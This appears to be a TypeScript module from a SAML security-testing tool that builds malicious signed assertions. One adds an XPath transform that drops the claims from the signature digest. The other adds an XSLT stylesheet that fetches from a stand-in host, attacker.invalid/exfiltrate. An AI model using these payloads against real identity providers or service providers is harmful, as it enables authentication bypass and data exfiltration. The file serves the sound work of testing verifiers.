/**
 * Disallowed transforms: an XPath filter or an XSLT stylesheet added to the Reference's
 * transforms (between enveloped-signature and exc-c14n). A verifier runs reference transforms
 * before it checks SignatureValue, so an XSLT or XPath engine runs on attacker input whatever
 * the signature says (denial of service; code execution in engines with extension functions).
 * @see XML-DSig core §6.6.3 (XPath filtering), §6.6.5 (XSLT); W3C "XML Signature Best
 *   Practices" §2.1.2–2.1.3 (avoid XSLT and XPath transforms); CompassSecurity/SAMLRaider
 *   livetesting ApplyXsltTest.java (XSLT in the signature as a live test)
 */
import { ALG, NS } from '../../xml/namespaces.ts';
import { childElements } from '../../xml/parse-xml.ts';
import { readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const XPATH_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xpath-19991116';
export const XSLT_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xslt-19991116';

function addTransform(
  signed: string,
  algorithm: string,
  body: (doc: Document, dsPrefix: string) => Node,
): string {
  const s = readSigned(signed);
  const transforms = s.signature.getElementsByTagNameNS(NS.ds, 'Transforms').item(0)!;
  const p = s.signature.prefix ? `${s.signature.prefix}:` : '';
  const transform = s.doc.createElementNS(NS.ds, `${p}Transform`);
  transform.setAttribute('Algorithm', algorithm);
  transform.appendChild(body(s.doc, p));
  const last = childElements(transforms, NS.ds, 'Transform').find(
    (t) => t.getAttribute('Algorithm') === ALG.excC14n,
  );
  transforms.insertBefore(transform, last ?? null);
  return write(s.doc);
}

export const TRANSFORM_ATTACKS: readonly SamlAttack[] = [
  {
    name: 'transform-xpath',
    fixture: 'transform-xpath',
    summary:
      'an XPath filter transform (that would leave the claims out of the digest) in the Reference',
    source: 'XML-DSig §6.6.3; W3C XML Signature Best Practices §2.1.3',
    apply: ({ signed }) =>
      addTransform(signed, XPATH_TRANSFORM, (doc, p) => {
        const xpath = doc.createElementNS(NS.ds, `${p}XPath`);
        xpath.setAttribute('xmlns:saml', NS.saml11);
        xpath.appendChild(doc.createTextNode('not(ancestor-or-self::saml:AttributeStatement)'));
        return xpath;
      }),
  },
  {
    name: 'transform-xslt',
    fixture: 'transform-xslt',
    summary: 'an XSLT stylesheet transform in the Reference',
    source: 'XML-DSig §6.6.5; W3C XML Signature Best Practices §2.1.2; SAMLRaider ApplyXsltTest',
    apply: ({ signed }) =>
      addTransform(signed, XSLT_TRANSFORM, (doc) => {
        const xslNs = 'http://www.w3.org/1999/XSL/Transform';
        const sheet = doc.createElementNS(xslNs, 'xsl:stylesheet');
        sheet.setAttribute('version', '1.0');
        const template = sheet.appendChild(doc.createElementNS(xslNs, 'xsl:template'));
        template.setAttribute('match', '/');
        const copy = template.appendChild(doc.createElementNS(xslNs, 'xsl:copy-of'));
        copy.setAttribute('select', "document('http://attacker.invalid/exfiltrate')");
        return sheet;
      }),
  },
];
